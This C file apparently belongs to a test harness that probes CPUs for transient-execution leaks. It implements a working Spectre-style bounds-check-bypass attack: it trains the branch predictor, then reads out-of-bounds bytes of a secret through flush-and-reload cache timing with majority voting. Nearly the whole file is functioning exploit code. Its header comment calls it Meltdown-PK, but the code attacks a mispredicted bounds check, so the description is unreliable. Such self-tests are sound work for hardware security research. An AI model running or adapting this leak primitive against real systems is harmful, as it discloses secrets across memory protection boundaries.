/* D12: does this CPU forward closed memory to code that runs ahead of a mispredicted
 * branch (Meltdown-PK; on mprotect, the same of pages that are not present)? A self-test:
 * what it finds is a fact about the CPU, reported, and no software here changes it.
 *
 * Flush and reload over 256 lines, a majority of many tries for each byte.
 *
 * Source: [Transient]; THREAT_MODEL.md puts transient execution out of scope.
 */
#include <emmintrin.h>
#include <string.h>
#include <x86intrin.h>
#include "attack.h"

#define BYTES 8
#define TRIES 400
#define TRAINING 8
#define LINE_BYTES 4096 /* a page each: no prefetcher crosses it */

static unsigned char lines[256 * LINE_BYTES];
static unsigned char allowed[64];
static volatile size_t limit = sizeof allowed;
static volatile unsigned char sink;

static uint64_t reload_cycles(const volatile unsigned char *at) {
    unsigned aux;
    uint64_t begin = __rdtscp(&aux);
    (void)*at;
    uint64_t end = __rdtscp(&aux);
    return end - begin;
}

static __attribute__((noinline)) void touch(size_t index) {
    if (index < limit) sink = lines[allowed[index] * LINE_BYTES];
}

/* Cycles between a hit and a miss, on this machine, now. */
static uint64_t threshold(void) {
    uint64_t hit = UINT64_MAX, miss = UINT64_MAX;
    for (int i = 0; i < 64; i++) {
        sink = lines[0];
        uint64_t cycles = reload_cycles(lines);
        if (cycles < hit) hit = cycles;
        _mm_clflush(lines);
        _mm_mfence();
        cycles = reload_cycles(lines);
        if (cycles < miss) miss = cycles;
    }
    return (hit + miss) / 2;
}

static unsigned char guess(size_t offset, uint64_t border) {
    unsigned votes[256] = {0};
    for (int try = 0; try < TRIES; try++) {
        for (int i = 0; i < 256; i++) _mm_clflush(&lines[i * LINE_BYTES]);
        for (int turn = TRAINING; turn >= 0; turn--) {
            _mm_clflush((void *)(uintptr_t)&limit);
            _mm_mfence();
            /* Without a branch of its own: index is 0, or (in the last turn) far outside. */
            touch(offset & (0 - (size_t)(turn == 0)));
        }
        for (int i = 1; i < 256; i++) { /* allowed[] is 0: line 0 is the training's */
            int mixed = (i * 167 + 13) & 255;
            if (mixed && reload_cycles(&lines[mixed * LINE_BYTES]) < border) votes[mixed]++;
        }
    }
    int best = 0;
    for (int i = 1; i < 256; i++)
        if (votes[i] > votes[best]) best = i;
    return (unsigned char)best;
}

static void self_test(void) {
    unsigned char found[BYTES];
    memset(lines, 1, sizeof lines);
    uint64_t border = threshold();
    for (int i = 0; i < BYTES; i++)
        found[i] = guess((size_t)((uintptr_t)target.secret + (size_t)i - (uintptr_t)allowed), border);
    attack_hand_in(found, sizeof found);
}

const struct attack attacks[] = {
    {.variant = "self-test", .attack = self_test, .flags = ATTACK_CONTROL},
    {0},
};
